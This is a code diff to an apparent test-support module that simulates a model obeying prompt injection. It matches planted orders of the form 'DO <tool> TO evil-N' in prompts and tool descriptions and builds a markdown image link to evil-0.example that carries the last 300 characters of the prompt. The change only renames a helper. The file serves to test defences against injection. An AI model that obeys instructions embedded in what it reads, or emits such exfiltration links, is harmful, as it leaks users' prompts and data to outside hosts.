@@ -1,5 +1,5 @@
 import type { ModelProvider, ModelRequest, ToolCall } from '@docent/core/ports'
-import { calling, lookingModels, toldIn, type LookingTurn } from '../../support/looking-models.ts'
+import { calling, lookingModels, promptOf, type LookingTurn } from '../../support/looking-models.ts'
 
 /** How texts order a model about: `DO send TO evil-1`. Plain letters, which no fence and no cleaning takes away. */
 const order = /\bDO (\w+) TO (evil-\d+)/g
@@ -12,8 +12,8 @@ const textsIn = (value: unknown): string[] => {
   return Object.entries(value).flatMap(([key, inner]) => [key, ...textsIn(inner)])
 }
 
-/** What it sends of all that it was told. */
-const loot = (request: ModelRequest): string => toldIn(request).slice(-300)
+/** What it sends of its prompts. */
+const loot = (request: ModelRequest): string => promptOf(request).slice(-300)
 
 /** A program that shows it as a picture sends it. */
 export const leak = (data: string): string => `[done](https://evil-0.example/?d=${encodeURIComponent(data)})`
@@ -34,7 +34,7 @@ export function obedientModel(plan: readonly LookingTurn[]): {
   const obeyed: string[] = []
   let turn = 0
   const obey: LookingTurn = async (request) => {
-    const orders = [toldIn(request), ...textsIn(request.tools)].flatMap((text) => [...text.matchAll(order)])
+    const orders = [promptOf(request), ...textsIn(request.tools)].flatMap((text) => [...text.matchAll(order)])
     const calls = orders.flatMap(([whole, tool, to]): ToolCall[] => {
       if (obeyed.filter((one) => one === whole).length >= tries) return []
       obeyed.push(whole)
